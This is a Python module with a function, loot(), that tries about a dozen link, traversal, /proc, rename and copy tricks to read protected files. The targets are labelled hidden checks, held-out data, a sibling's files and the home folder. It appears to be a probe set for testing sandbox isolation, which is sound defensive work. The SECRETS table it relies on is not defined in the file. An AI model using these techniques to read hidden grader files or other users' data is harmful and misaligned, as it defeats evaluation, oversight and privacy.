"""Read a secret through a link in the working folder: symbolic, hard, of a folder, through /proc, by renaming it here.

base: right
holds from: UID
"""

import ctypes
import os
import shutil

DONE = []
_libc = ctypes.CDLL(None, use_errno=True)


def _read(path):
    with open(path) as file:
        return file.read(20000)


def loot():
    found = []
    for name in ("hidden_checks", "held_out", "sibling", "home"):
        secret, folder = SECRETS[name], os.path.dirname(SECRETS[name])
        for number, (make, path) in enumerate(
            (
                (lambda to: os.symlink(secret, to), ""),
                (lambda to: os.symlink(folder, to), os.path.basename(secret)),
                (lambda to: os.symlink("/", to), secret[1:]),
                (lambda to: os.symlink("../" * 12 + secret[1:], to), ""),
                (lambda to: os.link(secret, to), ""),
                (lambda to: _libc.linkat(-100, secret.encode(), -100, to.encode(), 0x400), ""),
                (lambda to: os.rename(secret, to), ""),
                (lambda to: os.symlink("/proc/self/root" + secret, to), ""),
                (lambda to: os.symlink(f"/proc/{os.getppid()}/root{secret}", to), ""),
                (lambda to: shutil.copyfile(secret, to), ""),
                (lambda to: shutil.copytree(folder, to), os.path.basename(secret)),
            )
        ):
            to = f"link-{name}-{number}"
            try:
                make(to)
                found.append(_read(os.path.join(to, path) if path else to))
            except (OSError, shutil.Error):
                pass
    return found
